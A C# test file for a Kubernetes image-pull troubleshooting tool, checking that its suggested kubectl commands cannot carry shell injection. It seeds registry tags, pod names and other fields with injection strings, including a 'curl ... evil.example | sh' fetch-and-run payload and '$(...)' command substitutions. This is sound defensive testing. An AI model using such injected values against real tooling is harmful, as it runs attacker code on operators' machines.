using System.Diagnostics;
using PullDoctor.Core.Causes;
using PullDoctor.Core.Classification;
using PullDoctor.Core.Remediation;
using PullDoctor.RegistryFixtures;

namespace PullDoctor.Security.Tests.Commands;

/// <summary>
/// Class 2: suggested commands are safe to paste. Every value that reaches advice from outside (registry tags and
/// platforms, runtime messages, pod-spec names) carries a shell payload here; for every cause, no suggested command may
/// contain it, and running every command in a real bash (with the tools it names stubbed) runs nothing else.
/// </summary>
public sealed class PasteSafetyTests
{
    private const string Payload = "touch PWNED";

    private static readonly string[] Injections =
    [
        $";{Payload};#",
        $"$({Payload})",
        $"`{Payload}`",
        $"|{Payload}",
        $"&&{Payload}",
        $"\n{Payload}\n",
        $"'{Payload}'",
        $"\"; {Payload}; \"",
    ];

    private static IEnumerable<TestCaseData> HostileAdvice() =>
        from cause in Enum.GetValues<CauseCode>()
        from injection in Injections
        from sandbox in new[] { false, true }
        select new TestCaseData(cause, injection, sandbox).SetArgDisplayNames(cause.ToString(), Printable(injection), sandbox ? "sandbox" : "pod");

    [TestCaseSource(nameof(HostileAdvice))]
    public void NoOutsideValue_ReachesASuggestedCommand(CauseCode cause, string injection, bool sandbox)
    {
        var advice = AdviceWriter.Write(cause, HostileFacts(injection), HostileContext(injection, sandbox));

        foreach (var step in advice.Steps.Where(s => s.Command is not null))
        {
            Assert.That(step.Command, Does.Not.Contain("PWNED"), $"{cause}: {step.Text}");
            Assert.That(step.Command, Does.Not.Contain("\n").And.Not.Contain("\r"), "one line");
        }

        Assert.That(advice.Summary + advice.Explanation + string.Concat(advice.Steps.Select(s => s.Text)), Does.Not.Contain("\n").And.Not.Contain("\u001b"));
    }

    [Test]
    public async Task EverySuggestedCommand_RunInBash_RunsNothingButTheToolsItNames()
    {
        using var folder = TempDirectory.Create("paste");
        var commands = (
            from cause in Enum.GetValues<CauseCode>()
            from injection in Injections
            from sandbox in new[] { false, true }
            from step in AdviceWriter.Write(cause, HostileFacts(injection), HostileContext(injection, sandbox)).Steps
            where step.Command is not null
            select step.Command).Distinct().ToArray();
        Assert.That(commands, Has.Length.GreaterThan(15), "the attack reaches the commands of every cause");

        // The tools a command names are stubs; a '<placeholder>' redirection fails harmlessly. PWNED would only
        // appear if a value escaped its word.
        var script = string.Join('\n', commands.Select(c => $"( {c} ) </dev/null >/dev/null 2>&1"));
        File.WriteAllText(Path.Combine(folder.Path, "commands.sh"), """
            kubectl() { :; }; curl() { :; }; jq() { :; }; aws() { :; }; pulldoctor() { :; }; docker() { :; }
            """ + "\n" + script + "\n");
        var result = await RunBashAsync(folder.Path, "commands.sh");

        Assert.That(File.Exists(Path.Combine(folder.Path, "PWNED")), Is.False, result);
    }

    [Test]
    public async Task ShellQuoting_GivesBashBackExactlyTheValue()
    {
        using var folder = TempDirectory.Create("quoting");
        // Every ASCII character but NUL (which no argument can hold), and some beyond, in random mixes.
        var random = new Random(11);
        var alphabet = Enumerable.Range(1, 0x7f).Select(c => (char)c).Concat("éß→\u00a0\u202e").ToArray();
        var values = Enumerable.Range(0, 300)
            .Select(_ => new string(Enumerable.Range(0, random.Next(0, 40)).Select(_ => alphabet[random.Next(alphabet.Length)]).ToArray()))
            .Concat(["it's", string.Empty, "$(id)", "'", "''", "\\", "a b"])
            .ToArray();
        var script = "printf '%s\\0' " + string.Join(' ', values.Select(ShellQuoting.Quote)) + "\n";
        File.WriteAllText(Path.Combine(folder.Path, "quoted.sh"), script);

        var printed = await RunBashAsync(folder.Path, "quoted.sh");

        Assert.That(printed.Split('\0')[..^1], Is.EqualTo(values));
    }

    [TestCase("1.25.3;curl -s http://evil.example/p|sh;#")]
    [TestCase("$(curl evil.example)")]
    [TestCase("1.25.4\u001b[2J")]
    public void HostileRegistryTag_IsNeverSuggested_ValidOnesAre(string hostile)
    {
        var advice = AdviceWriter.Write(
            CauseCode.TagNotFound,
            new PullFacts { Image = "registry.example:5000/shop/web:1.25.x" },
            new RemediationContext { Namespace = "shop", Workload = new WorkloadReference("Deployment", "web"), ContainerName = "web", SuggestedTags = [hostile, "1.25.3"] });

        var command = advice.Steps[0].Command;
        Assert.That(command, Is.EqualTo("kubectl -n shop set image deployment/web web=registry.example:5000/shop/web:1.25.3"));
        Assert.That(advice.Summary, Does.Not.Contain(hostile));
    }

    private static PullFacts HostileFacts(string injection) => new()
    {
        Image = $"registry.example/shop/web:1.0{injection}",
        RegistryHost = $"registry.example{injection}",
        Repository = $"shop/web{injection}",
        Tag = $"1.0{injection}",
        Digest = $"sha256:{injection}",
        DnsName = $"registry.example{injection}",
        DnsServer = $"10.96.0.10:53{injection}",
        Platform = $"linux/arm64{injection}",
        RegistryMessage = $"denied{injection}",
        TlsProblem = $"expired{injection}",
        SecretNames = [$"regcred{injection}"],
        RuntimeError = $"failed{injection}",
    };

    private static RemediationContext HostileContext(string injection, bool sandbox) => new()
    {
        Namespace = $"shop{injection}",
        PodName = $"web-1{injection}",
        Workload = new WorkloadReference("Deployment", $"web{injection}"),
        ContainerName = $"web{injection}",
        ServiceAccountName = $"default{injection}",
        PullSecrets =
        [
            new PullSecretStatus($"regcred{injection}", PullSecretSource.Pod, PullSecretState.Missing, $"missing{injection}"),
            new PullSecretStatus($"other{injection}", PullSecretSource.ServiceAccount, PullSecretState.Invalid, $"bad{injection}"),
            new PullSecretStatus($"found{injection}", PullSecretSource.Pod, PullSecretState.Found),
        ],
        SuggestedTags = [$"1.25.3{injection}", $"{injection}"],
        AvailablePlatforms = [$"linux/amd64{injection}"],
        NodePlatform = $"linux/arm64{injection}",
        RateLimitReset = $"in 2h{injection}",
        IsSandboxImage = sandbox,
    };

    private static async Task<string> RunBashAsync(string directory, string script)
    {
        var start = new ProcessStartInfo("bash", ["--noprofile", "--norc", script])
        {
            WorkingDirectory = directory,
            RedirectStandardOutput = true,
            RedirectStandardError = true,
        };
        using var process = Process.Start(start)!;
        var stdout = process.StandardOutput.ReadToEndAsync();
        var stderr = process.StandardError.ReadToEndAsync();
        using var timeout = new CancellationTokenSource(TimeSpan.FromSeconds(60));
        await process.WaitForExitAsync(timeout.Token);
        return await stdout + await stderr;
    }

    private static string Printable(string value) => value.Replace("\n", "\\n", StringComparison.Ordinal);
}
